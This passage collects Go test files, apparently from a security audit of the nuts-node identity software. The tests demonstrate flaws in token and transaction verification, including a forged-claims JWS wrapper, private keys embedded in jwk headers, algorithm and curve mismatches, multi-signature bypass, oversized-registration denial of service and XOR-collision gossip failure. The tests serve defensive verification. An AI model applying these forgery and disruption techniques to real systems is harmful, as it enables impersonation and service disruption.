	result["signature in standard (non-URL) alphabet"] = join(parts[0], parts[1], reencode(parts[2], base64.RawStdEncoding))
	for name, token := range result {
		if token == valid {
			// this segment happens to have the same encoding (length is a multiple of 4, or no '-' or '_' in it)
			delete(result, name)
		}
	}
	return result
}

// Property: a signed token is accepted only if its signature verifies "over the exact bytes received"; this must hold
// "for all tokens obtained from a valid one by ... re-encoding the compact form".
func TestDemoC17_ParseJWT_ReencodedCompactForm(t *testing.T) {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	token := jwt.New()
	_ = token.Set(jwt.IssuerKey, "did:web:example.com")
	_ = token.Set("claim", "value?>>~~") // makes the base64url payload contain '-' or '_'
	hdr := jws.NewHeaders()
	_ = hdr.Set(jws.KeyIDKey, "did:web:example.com#0")
	signed, err := jwt.Sign(token, jwt.WithKey(jwa.ES256, key, jws.WithProtectedHeaders(hdr)))
	require.NoError(t, err)
	keyFunc := func(_ string) (crypto.PublicKey, error) { return key.Public(), nil }

	_, err = ParseJWT(string(signed), keyFunc)
	require.NoError(t, err, "sanity check: the canonical token is valid")

	for name, reencoded := range demoReencodings(t, string(signed)) {
		t.Run(name, func(t *testing.T) {
			require.NotEqual(t, string(signed), reencoded)
			_, err := ParseJWT(reencoded, keyFunc)
			if err == nil {
				t.Errorf("ParseJWT accepted a token whose bytes are not the bytes that were signed: %q", reencoded)
			}
		})
	}
}
