package dpop

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/base64"
	"net/http"
	"strings"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/stretchr/testify/require"
)

// Property: a DPoP proof is accepted only if its signature verifies "over the exact bytes received"; this must hold
// "for all tokens obtained from a valid one by ... re-encoding the compact form".
func TestDemoC17_DPoP_ReencodedCompactForm(t *testing.T) {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	request, _ := http.NewRequest(http.MethodPost, "https://example.com/token", nil)
	valid, err := New(*request).Sign("kid", key, jwa.ES256)
	require.NoError(t, err)
	_, err = Parse(valid)
	require.NoError(t, err, "sanity check: the canonical proof is valid")

	parts := strings.Split(valid, ".")
	sig, err := base64.RawURLEncoding.DecodeString(parts[2])
	require.NoError(t, err)
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	last := parts[2][len(parts[2])-1]
	variants := map[string]string{
		"padded signature":            parts[0] + "." + parts[1] + "." + base64.URLEncoding.EncodeToString(sig),
		"line break in payload":       parts[0] + "." + parts[1][:4] + "\n" + parts[1][4:] + "." + parts[2],
		"unused trailing bits in sig": parts[0] + "." + parts[1] + "." + parts[2][:len(parts[2])-1] + string(alphabet[strings.IndexByte(alphabet, last)^1]),
	}
	for name, reencoded := range variants {
		t.Run(name, func(t *testing.T) {
			require.NotEqual(t, valid, reencoded)
			if _, err := Parse(reencoded); err == nil {
				t.Errorf("dpop.Parse accepted a proof whose bytes are not the bytes that were signed: %q", reencoded)
			}
		})
	}
}
