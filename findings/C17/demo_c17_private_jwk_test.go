package dag

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemoC17_TransactionWithEmbeddedPrivateKey demonstrates that a transaction of which the `jwk` header contains a
// private key (including the `d` parameter) is parsed, verified (using the public part of the embedded private key) and
// thus stored on the DAG and gossiped to all other nodes.
//
// Property: "[...] or an embedded public key where the protocol mandates one [...], and embedded private keys are refused."
// (the DPoP parser, the did:jwk resolver and the node's own SignJWS do refuse a private key in a jwk).
func TestDemoC17_TransactionWithEmbeddedPrivateKey(t *testing.T) {
	privateKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	privateKeyAsJWK, err := jwk.FromRaw(privateKey)
	require.NoError(t, err)
	_, isPrivate := privateKeyAsJWK.(jwk.ECDSAPrivateKey)
	require.True(t, isPrivate)

	// build a well-formed root transaction (RFC004), with the private key as jwk header
	headers := jws.NewHeaders()
	require.NoError(t, headers.Set(jws.ContentTypeKey, "application/did+json"))
	require.NoError(t, headers.Set(jws.CriticalKey, []string{signingTimeHeader, versionHeader, previousHeader, lamportClockHeader}))
	require.NoError(t, headers.Set(signingTimeHeader, time.Now().Unix()))
	require.NoError(t, headers.Set(previousHeader, []string{}))
	require.NoError(t, headers.Set(versionHeader, 2))
	require.NoError(t, headers.Set(lamportClockHeader, 0))
	require.NoError(t, headers.Set(jws.JWKKey, privateKeyAsJWK))
	payloadHash := hash.SHA256Sum([]byte("payload"))
	data, err := jws.Sign([]byte(payloadHash.String()), jws.WithKey(jwa.ES256, privateKey, jws.WithProtectedHeaders(headers)))
	require.NoError(t, err)
	// sanity check: the private exponent really is in the transaction
	msg, _ := jws.Parse(data)
	_, hasD := msg.Signatures()[0].ProtectedHeaders().JWK().Get("d")
	require.True(t, hasD)

	tx, err := ParseTransaction(data)
	if err == nil {
		err = NewTransactionSignatureVerifier(nil)(nil, tx)
	}

	assert.Error(t, err, "transaction with a private key in the jwk header must be refused")
}
