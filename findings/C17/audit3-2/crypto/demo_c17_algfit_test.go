package crypto

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/stretchr/testify/require"
)

// Property: a signed token is accepted only if its signature is "made with an allowed asymmetric algorithm that fits the
// verification key"; tokens with an algorithm header of a "mismatching family/curve" must be refused.
// RFC7518 §3.4: ES256 = P-256 + SHA-256, ES384 = P-384 + SHA-384, ES512 = P-521 + SHA-512.
func TestDemoC17_ParseJWT_AlgorithmDoesNotFitKey(t *testing.T) {
	p256, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	p384, _ := ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	p521, _ := ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
	cases := []struct {
		name string
		alg  jwa.SignatureAlgorithm
		key  *ecdsa.PrivateKey
	}{
		{"ES256 (SHA-256) with a P-384 key", jwa.ES256, p384},
		{"ES256 (SHA-256) with a P-521 key", jwa.ES256, p521},
		{"ES384 with a P-256 key", jwa.ES384, p256},
		{"ES512 with a P-256 key", jwa.ES512, p256},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			token := jwt.New()
			_ = token.Set(jwt.IssuerKey, "did:web:example.com")
			hdr := jws.NewHeaders()
			_ = hdr.Set(jws.KeyIDKey, "did:web:example.com#0")
			signed, err := jwt.Sign(token, jwt.WithKey(tc.alg, tc.key, jws.WithProtectedHeaders(hdr)))
			require.NoError(t, err)

			_, err = ParseJWT(string(signed), func(_ string) (crypto.PublicKey, error) { return tc.key.Public(), nil })
			if err == nil {
				t.Errorf("ParseJWT accepted a token with alg=%s that is verified with a %s key", tc.alg, tc.key.Curve.Params().Name)
			}
		})
	}
}
