package dpop

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"net/http"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/stretchr/testify/require"
)

// Property: a DPoP proof is accepted only if its signature is "made with an allowed asymmetric algorithm that fits the
// verification key"; proofs with an algorithm header of a "mismatching family/curve" must be refused.
func TestDemoC17_DPoP_AlgorithmDoesNotFitKey(t *testing.T) {
	p384, _ := ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	request, _ := http.NewRequest(http.MethodPost, "https://example.com/token", nil)
	// alg=ES256 (P-256 + SHA-256), but the embedded jwk (and the signature) is P-384
	proof, err := New(*request).Sign("kid", p384, jwa.ES256)
	require.NoError(t, err)
	if _, err = Parse(proof); err == nil {
		t.Errorf("dpop.Parse accepted a proof with alg=ES256 and a P-384 jwk")
	}
}
