package tokenV2

import (
	"crypto/elliptic"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/labstack/echo/v4"
	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/stretchr/testify/require"
)

// Property: an internal-API bearer token is accepted only if its signature is "made with an allowed asymmetric algorithm
// that fits the verification key"; tokens with an algorithm header of a "mismatching family/curve" must be refused.
func TestDemoC17_APIToken_AlgorithmDoesNotFitKey(t *testing.T) {
	cases := []struct {
		name  string
		curve elliptic.Curve
		alg   jwa.SignatureAlgorithm
	}{
		{"ES256 with a P-384 authorized key", elliptic.P384(), jwa.ES256},
		{"ES512 with a P-256 authorized key", elliptic.P256(), jwa.ES512},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, serializer, authorizedKey := generateECDSATestKey(t, tc.curve, tc.alg)
			serialized, err := serializer.Serialize(validJWT(t))
			require.NoError(t, err)
			middleware, err := New(nil, validHostname, authorizedKey)
			require.NoError(t, err)
			request, _ := http.NewRequest("GET", "/", nil)
			request.Header.Set("Authorization", "Bearer "+string(serialized))
			recorder := httptest.NewRecorder()
			err = middleware.Handler(statusOKHandler)(echo.New().NewContext(request, recorder))
			if err == nil {
				t.Errorf("access granted for a token with alg=%s that is verified with a %s key", tc.alg, tc.curve.Params().Name)
			}
		})
	}
}
