package dag

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/stretchr/testify/require"
)

// Property: a DAG transaction is accepted only if its signature is "made with an allowed asymmetric algorithm that fits
// the verification key"; transactions with an algorithm header of a "mismatching family/curve" must be refused.
func TestDemoC17_Transaction_AlgorithmDoesNotFitKey(t *testing.T) {
	p384, _ := ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	publicJWK, err := jwk.FromRaw(p384.Public())
	require.NoError(t, err)
	headers := jws.NewHeaders()
	for key, value := range map[string]interface{}{
		jws.ContentTypeKey: "application/did+json",
		jws.CriticalKey:    []string{signingTimeHeader, versionHeader, previousHeader, lamportClockHeader},
		signingTimeHeader:  time.Now().Unix(),
		previousHeader:     []string{},
		versionHeader:      1,
		lamportClockHeader: 0,
		jws.JWKKey:         publicJWK,
	} {
		require.NoError(t, headers.Set(key, value))
	}
	// alg=ES256 (P-256 + SHA-256), but the embedded jwk (and the signature) is P-384
	data, err := jws.Sign([]byte(hash.SHA256Sum([]byte("payload")).String()), jws.WithKey(jwa.ES256, p384, jws.WithProtectedHeaders(headers)))
	require.NoError(t, err)

	tx, err := ParseTransaction(data)
	if err != nil {
		return // refused by the parser: fine
	}
	require.Equal(t, "ES256", tx.SigningAlgorithm())
	if err = NewTransactionSignatureVerifier(nil)(nil, tx); err == nil {
		t.Errorf("transaction with alg=ES256 and a P-384 jwk was accepted")
	}
}
