package tokenV2

// Demonstration for the C17 defect (fixed by "fix: require exactly one signature on internal API tokens"):
// place in /repo/http/tokenV2 and run  go test -run TestDemoMultiSignature ./http/tokenV2/
// Before the fix a JSON-serialised JWS with one valid signature plus a second, garbage signature is granted access.

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/labstack/echo/v4"
	"github.com/stretchr/testify/require"
)

func TestDemoMultiSignature(t *testing.T) {
	_, serializer, authorizedKey := generateEd25519TestKey(t)
	serialized, err := serializer.Serialize(validJWT(t))
	require.NoError(t, err)
	parts := strings.Split(string(serialized), ".")
	require.Len(t, parts, 3)
	// general JSON serialisation with the real signature and a second signature by nobody (same protected header)
	general, err := json.Marshal(map[string]any{
		"payload": parts[1],
		"signatures": []map[string]string{
			{"protected": parts[0], "signature": parts[2]},
			{"protected": parts[0], "signature": base64.RawURLEncoding.EncodeToString([]byte("garbage-signature-by-someone-else"))},
		},
	})
	require.NoError(t, err)

	middleware, err := New(nil, validHostname, []byte(authorizedKey))
	require.NoError(t, err)
	handler := middleware.Handler(statusOKHandler)
	request, _ := http.NewRequest("GET", "/", nil)
	request.Header.Set("Authorization", fmt.Sprintf("Bearer %v", string(general)))
	recorder := httptest.NewRecorder()
	testCtx := echo.New().NewContext(request, recorder)
	err = handler(testCtx)
	require.Error(t, err, "token with two signatures must be refused")
	require.NotEqual(t, ok, recorder.Body.String(), "the protected handler must not run")
}
