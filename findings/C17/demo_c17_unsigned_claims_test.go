package crypto

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"fmt"
	"strings"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// ParseJWT (the function every token check of the node goes through) accepted the JWS JSON serialization. When that JSON
// object also has top-level claim members (an "aud" member makes the JWT library read it as a "raw JWT"), the library
// verifies the signature of the embedded JWS and then takes the claims from the UNSIGNED top-level members: anyone holding
// a single JWS signed by a key can present arbitrary claims as signed by that key.
func TestDemoC17_ClaimsMustComeFromTheSignedPayload(t *testing.T) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	require.NoError(t, err)
	// something the key owner really signed, once
	genuine := jwt.New()
	require.NoError(t, genuine.Set(jwt.IssuerKey, "did:example:alice"))
	require.NoError(t, genuine.Set(jwt.SubjectKey, "harmless"))
	hdrs := jws.NewHeaders()
	require.NoError(t, hdrs.Set(jws.KeyIDKey, "did:example:alice#key-1"))
	signed, err := jwt.Sign(genuine, jwt.WithKey(jwa.ES256, key, jws.WithProtectedHeaders(hdrs)))
	require.NoError(t, err)
	parts := strings.Split(string(signed), ".")
	require.Len(t, parts, 3)

	// the attacker wraps it in a JSON object with claims of their own choosing
	forged := fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q,"aud":["victim"],"iss":"did:example:alice","sub":"did:example:attacker-controlled"}`,
		parts[0], parts[1], parts[2])

	token, err := ParseJWT(forged, func(kid string) (crypto.PublicKey, error) { return key.Public(), nil })

	if err == nil {
		assert.Equal(t, "harmless", token.Subject(), "the subject claim was taken from the unsigned part of the input")
	}
	require.Error(t, err, "a token that is not in the compact serialization must be refused")
}
