package discovery

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/discovery/api/server/client"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoServeDiscoveryService serves GET {url}?timestamp=N for the given (real) server Module, the same way
// discovery/api/server.Wrapper.GetPresentations does (which can't be imported here: import cycle):
// call Server.Get() and write its results as client.PresentationsResponse JSON.
func demoServeDiscoveryService(t *testing.T, server *Module) *httptest.Server {
	httpServer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		timestamp, _ := strconv.Atoi(r.URL.Query().Get("timestamp"))
		entries, seed, newTimestamp, err := server.Get(r.Context(), testServiceID, timestamp)
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(client.PresentationsResponse{Entries: entries, Seed: seed, Timestamp: newTimestamp})
	}))
	t.Cleanup(httpServer.Close)
	return httpServer
}

// demoRegistration creates a presentation that fulfils the Presentation Definition of testServiceID
func demoRegistration(subject did.DID, registrationParameters map[string]interface{}) vc.VerifiablePresentation {
	if keyPairs[subject.String()] == nil {
		keyPairs[subject.String()], _ = ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	}
	if registrationParameters == nil {
		registrationParameters = defaultRegistrationParams(subject.ID)
	}
	return createPresentationCustom(subject, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
		claims[jwt.AudienceKey] = []string{testServiceID}
	}, createCredential(authorityDID, subject, map[string]interface{}{
		"person": map[string]interface{}{"givenName": subject.ID},
	}, nil), createHolderCredential(subject, registrationParameters))
}

type demoResponseSizeContext struct {
	server      *Module
	clientStore *sqlStore
	updater     *clientUpdater
	service     ServiceDefinition
}

func demoResponseSizeSetup(t *testing.T) demoResponseSizeContext {
	serverEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, serverEngine.Start())
	clientEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, clientEngine.Start())

	// the real server
	server, mocks := setupModule(t, serverEngine, func(module *Module) {
		module.config.Client.RefreshInterval = 0
	})
	mocks.verifier.EXPECT().VerifyVP(gomock.Any(), true, true, nil).AnyTimes() // all signatures are fine
	httpServer := demoServeDiscoveryService(t, server)

	// the real client: real store, real updater, real HTTP client
	clientStore := setupStore(t, clientEngine.GetSQLDatabase())
	definitions := testDefinitions()
	service := definitions[testServiceID]
	service.Endpoint = httpServer.URL
	definitions[testServiceID] = service
	updater := newClientUpdater(definitions, clientStore, alwaysOkVerifier, client.New(2*time.Second))
	return demoResponseSizeContext{server: server, clientStore: clientStore, updater: updater, service: service}
}

// assertConverged polls a number of times, then asserts that the client holds exactly the server's live set.
func (c demoResponseSizeContext) assertConverged(t *testing.T) {
	var lastErr error
	for i := 0; i < 8; i++ {
		if err := c.updater.updateService(context.Background(), c.service); err != nil {
			lastErr = err
		}
	}
	if lastErr != nil {
		t.Logf("last error from updateService(): %s", lastErr)
	}
	// the server's live set: read from its database, all presentations on the server are "validated"
	serverEntries, err := c.server.store.allPresentations(true)
	require.NoError(t, err)
	var expected []string
	for _, entry := range serverEntries {
		expected = append(expected, entry.PresentationID)
	}
	sort.Strings(expected)
	clientEntries, err := c.clientStore.search(testServiceID, map[string]string{}, false)
	require.NoError(t, err)
	var actual []string
	for _, entry := range clientEntries {
		actual = append(actual, entry.ID.String())
	}
	sort.Strings(actual)
	assert.Equal(t, len(expected), len(actual), "client does not hold the server's live set")
	assert.True(t, assert.ObjectsAreEqual(expected, actual), "client does not hold the server's live set")
}

// TestDemo_ClientCanNotRetrieveLargeList shows that a client can't ever retrieve a list of which the presentations add up to more than 1 MiB:
// the server returns everything after the given timestamp in 1 response, while the client refuses to read responses over 1 MiB.
func TestDemo_ClientCanNotRetrieveLargeList(t *testing.T) {
	t.Run("many (normal) registrations", func(t *testing.T) {
		ctx := demoResponseSizeSetup(t)
		totalSize := 0
		numSubjects := 0
		for totalSize < 1200*1024 {
			presentation := demoRegistration(did.MustParseDID(fmt.Sprintf("did:example:subject%d", numSubjects)), nil)
			require.NoError(t, ctx.server.Register(context.Background(), testServiceID, presentation))
			totalSize += len(presentation.Raw())
			numSubjects++
		}
		t.Logf("%d subjects registered at the server, size of their presentations: %d bytes", numSubjects, totalSize)

		ctx.assertConverged(t)
	})
	t.Run("1 large registration", func(t *testing.T) {
		ctx := demoResponseSizeSetup(t)
		// Mallory registers a presentation of which the (self-attested) DiscoveryRegistrationCredential contains a large parameter.
		// It does not matter whether the server accepts it or not...
		mallory := demoRegistration(did.MustParseDID("did:example:mallory"), map[string]interface{}{
			"authServerURL": "https://example.com/oauth2/mallory",
			"padding":       strings.Repeat("A", 1024*1024),
		})
		err := ctx.server.Register(context.Background(), testServiceID, mallory)
		t.Logf("Result of registering a presentation of %d bytes: %v", len(mallory.Raw()), err)
		// ...but Alice and Bob, who register after Mallory, must be found by the client
		require.NoError(t, ctx.server.Register(context.Background(), testServiceID, demoRegistration(aliceDID, nil)))
		require.NoError(t, ctx.server.Register(context.Background(), testServiceID, demoRegistration(bobDID, nil)))

		ctx.assertConverged(t)
	})
}
