package pe

import (
	"encoding/json"
	"testing"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Demo for C12 finding 2: with submission requirements, the descriptor map is derived from the selected *credentials*
// (each unique credential is mapped to the first input descriptor that happens to have selected an equal credential),
// not from the input descriptors that the submission requirements selected.
// When 2 input descriptors select the same credential, the wallet creates (and the verifier demands) a descriptor map that
// is incomplete and/or contains surplus mappings with regard to the submission requirements.
func TestDemoC12_SubmissionRequirementsLoseInputDescriptors(t *testing.T) {
	holder := did.MustParseDID("did:example:holder")
	credential := func(id string, subject map[string]interface{}) vc.VerifiableCredential {
		credentialID := ssi.MustParseURI(id)
		subject["id"] = holder.String()
		return credentialToJSONLD(vc.VerifiableCredential{
			ID:                &credentialID,
			Type:              []ssi.URI{ssi.MustParseURI("VerifiableCredential")},
			CredentialSubject: []interface{}{subject},
		})
	}
	toEnvelope := func(t *testing.T, credentials []vc.VerifiableCredential) Envelope {
		presentation := vc.VerifiablePresentation{
			VerifiableCredential: credentials,
			Proof:                []interface{}{proof.LDProof{VerificationMethod: ssi.MustParseURI(holder.String() + "#key")}},
		}
		presentationJSON, _ := json.Marshal(presentation)
		envelope, err := ParseEnvelope(presentationJSON)
		require.NoError(t, err)
		return *envelope
	}
	mappedIDs := func(submission PresentationSubmission) []string {
		var result []string
		for _, mapping := range submission.DescriptorMap {
			result = append(result, mapping.Id)
		}
		return result
	}

	t.Run("rule 'all': input descriptor of the group is missing from the descriptor map", func(t *testing.T) {
		// 2 input descriptors in group A, all of them are required. They ask for different properties, which the wallet
		// has in a single credential.
		definition, err := ParsePresentationDefinition([]byte(`{
          "id":"pd",
          "submission_requirements":[{"rule":"all","from":"A"}],
          "input_descriptors":[
            {"id":"name","group":["A"],"constraints":{"fields":[{"id":"organization_name","path":["$.credentialSubject.name"],"filter":{"type":"string"}}]}},
            {"id":"city","group":["A"],"constraints":{"fields":[{"id":"organization_city","path":["$.credentialSubject.city"],"filter":{"type":"string"}}]}}
          ]}`))
		require.NoError(t, err)
		organizationCredential := credential("did:example:issuer#1", map[string]interface{}{"name": "Care", "city": "Caretown"})

		// wallet
		builder := definition.PresentationSubmissionBuilder()
		builder.AddWallet(holder, []vc.VerifiableCredential{organizationCredential})
		submission, signInstruction, err := builder.Build("ldp_vp")
		require.NoError(t, err)
		envelope := toEnvelope(t, signInstruction.VerifiableCredentials)

		t.Run("wallet maps all input descriptors of the group", func(t *testing.T) {
			assert.ElementsMatch(t, []string{"name", "city"}, mappedIDs(submission))
		})
		t.Run("verifier accepts the submission of the wallet, and returns the claims of all input descriptors of the group", func(t *testing.T) {
			credentialMap, err := submission.Validate(envelope, *definition)
			require.NoError(t, err)
			claims, err := definition.ResolveConstraintsFields(credentialMap)
			require.NoError(t, err)
			assert.Equal(t, map[string]interface{}{"organization_name": "Care", "organization_city": "Caretown"}, claims)
		})
		t.Run("verifier rejects an incomplete descriptor map", func(t *testing.T) {
			// only 1 of the 2 input descriptors of the group of which all are required
			incomplete := PresentationSubmission{
				Id:           "incomplete",
				DefinitionId: definition.Id,
				DescriptorMap: []InputDescriptorMappingObject{
					{Id: "name", Format: "ldp_vc", Path: "$.verifiableCredential"},
				},
			}
			_, err := incomplete.Validate(toEnvelope(t, []vc.VerifiableCredential{organizationCredential}), *definition)
			assert.Error(t, err)
		})
	})
	t.Run("credential is mapped to an input descriptor that wasn't selected", func(t *testing.T) {
		// pick 1 from group A (a, b) and all from group B (c).
		definition, err := ParsePresentationDefinition([]byte(`{
          "id":"pd",
          "submission_requirements":[{"rule":"pick","count":1,"from":"A"},{"rule":"all","from":"B"}],
          "input_descriptors":[
            {"id":"a","group":["A"],"constraints":{"fields":[{"path":["$.credentialSubject.a"],"filter":{"type":"string"}}]}},
            {"id":"b","group":["A"],"constraints":{"fields":[{"path":["$.credentialSubject.b"],"filter":{"type":"string"}}]}},
            {"id":"c","group":["B"],"constraints":{"fields":[{"id":"c","path":["$.credentialSubject.c"],"filter":{"type":"string"}}]}}
          ]}`))
		require.NoError(t, err)
		wallet := []vc.VerifiableCredential{
			credential("did:example:issuer#1", map[string]interface{}{"a": "1"}),
			credential("did:example:issuer#2", map[string]interface{}{"b": "2", "c": "3"}),
		}

		// wallet
		builder := definition.PresentationSubmissionBuilder()
		builder.AddWallet(holder, wallet)
		submission, signInstruction, err := builder.Build("ldp_vp")
		require.NoError(t, err)
		envelope := toEnvelope(t, signInstruction.VerifiableCredentials)

		t.Run("wallet maps 1 input descriptor from group A and all from group B", func(t *testing.T) {
			// 'a' is the first of group A that matches, so 'b' is not selected.
			assert.ElementsMatch(t, []string{"a", "c"}, mappedIDs(submission))
		})
		t.Run("verifier returns the claims of the required input descriptor", func(t *testing.T) {
			credentialMap, err := submission.Validate(envelope, *definition)
			require.NoError(t, err)
			claims, err := definition.ResolveConstraintsFields(credentialMap)
			require.NoError(t, err)
			assert.Equal(t, map[string]interface{}{"c": "3"}, claims)
		})
		t.Run("verifier rejects a descriptor map with a surplus mapping for group A and without a mapping for group B", func(t *testing.T) {
			forged := PresentationSubmission{
				Id:           "forged",
				DefinitionId: definition.Id,
				DescriptorMap: []InputDescriptorMappingObject{
					{Id: "a", Format: "ldp_vc", Path: "$.verifiableCredential[0]"},
					{Id: "b", Format: "ldp_vc", Path: "$.verifiableCredential[1]"},
				},
			}
			_, err := forged.Validate(toEnvelope(t, wallet), *definition)
			assert.Error(t, err)
		})
	})
}
