package v2

import (
	"context"
	"fmt"
	"math/big"
	"path"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/core"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/network/transport"
	"github.com/nuts-foundation/nuts-node/network/transport/grpc"
	"github.com/nuts-foundation/nuts-node/network/transport/v2/gossip"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/require"
	"google.golang.org/protobuf/proto"
)

// xorZeroSubset returns the indices of a non-empty subset of refs whose XOR is the all-zero hash
// (Gaussian elimination over GF(2): any 257 hashes of 256 bits are linearly dependent).
func xorZeroSubset(refs []hash.SHA256Hash) []int {
	type row struct {
		vec  *big.Int // remaining value
		comb *big.Int // which refs were combined into vec
	}
	pivots := map[int]row{} // highest set bit -> row
	for i, ref := range refs {
		cur := row{vec: new(big.Int).SetBytes(ref.Slice()), comb: new(big.Int).SetBit(new(big.Int), i, 1)}
		for cur.vec.Sign() != 0 {
			top := cur.vec.BitLen() - 1
			p, ok := pivots[top]
			if !ok {
				pivots[top] = cur
				break
			}
			cur.vec = new(big.Int).Xor(cur.vec, p.vec)
			cur.comb = new(big.Int).Xor(cur.comb, p.comb)
		}
		if cur.vec.Sign() == 0 {
			var result []int
			for j := 0; j <= i; j++ {
				if cur.comb.Bit(j) == 1 {
					result = append(result, j)
				}
			}
			return result
		}
	}
	return nil
}

// Two nodes share the root. Node A holds a set S of valid transactions that B misses; the refs of S XOR to zero
// (anybody who may publish ~260 transactions can construct such a set). A gossips the refs of S (as many as fit in its
// gossip queue) together with its XOR, all messages are delivered, in order, nothing is lost.
// The property demands that B ends up with the union. It does not: B compares the XORs, finds them equal and returns
// before it looks at the advertised refs it does not have.
func TestDemo_XorZeroSubsetIsNeverReplicated(t *testing.T) {
	logrus.SetLevel(logrus.ErrorLevel)
	a := newSimNode(t, "A", "B")
	b := newSimNode(t, "B", "A")

	root, _, _ := dag.CreateTestTransaction(1)
	a.add(t, root, payloadOf(1))
	b.add(t, root, payloadOf(1))
	// 300 valid transactions (all children of the root, so every subset of them is a valid DAG)
	var txs []dag.Transaction
	var refs []hash.SHA256Hash
	for i := 0; i < 300; i++ {
		tx, _, _ := dag.CreateTestTransaction(uint32(1000+i), root)
		txs = append(txs, tx)
		refs = append(refs, tx.Ref())
	}
	subset := xorZeroSubset(refs)
	require.NotEmpty(t, subset)
	inS := map[int]bool{}
	var sRefs []hash.SHA256Hash
	for _, idx := range subset {
		inS[idx] = true
		sRefs = append(sRefs, refs[idx])
	}
	require.True(t, hash.EmptyHash().Xor(sRefs...).Equals(hash.EmptyHash()))
	t.Logf("|S| = %d", len(subset))

	// both have everything outside S, only A has S
	for i, tx := range txs {
		if !inS[i] {
			a.add(t, tx, payloadOf(uint32(1000+i)))
			b.add(t, tx, payloadOf(uint32(1000+i)))
		}
	}
	for i, tx := range txs {
		if inS[i] {
			a.add(t, tx, payloadOf(uint32(1000+i)))
		}
	}
	union := 301
	require.Equal(t, union, a.numTX(t))
	require.Equal(t, union-len(subset), b.numTX(t))

	deliverAll := func() {
		for len(a.inbox)+len(b.inbox) > 0 {
			for _, n := range []*simNode{a, b} {
				o := map[*simNode]*simNode{a: b, b: a}[n]
				if len(n.inbox) > 0 {
					env := n.inbox[0]
					n.inbox = n.inbox[1:]
					n.deliver(t, env, false)
					n.drain(t, o)
				}
			}
		}
	}

	// round 1: A gossips the new transactions (its gossip queue holds at most 100 refs) with its current XOR and clock
	advertised := sRefs
	if len(advertised) > 100 {
		advertised = advertised[:100]
	}
	xor, clock := a.state.XOR(dag.MaxLamportClock)
	require.NoError(t, a.p.sendGossipMsg(a.conn, advertised, xor, clock))
	a.drain(t, b)
	deliverAll()
	// 20 more rounds in both directions (queues are empty now), with time passing in between
	for round := 0; round < 20; round++ {
		a.expireConversations()
		b.expireConversations()
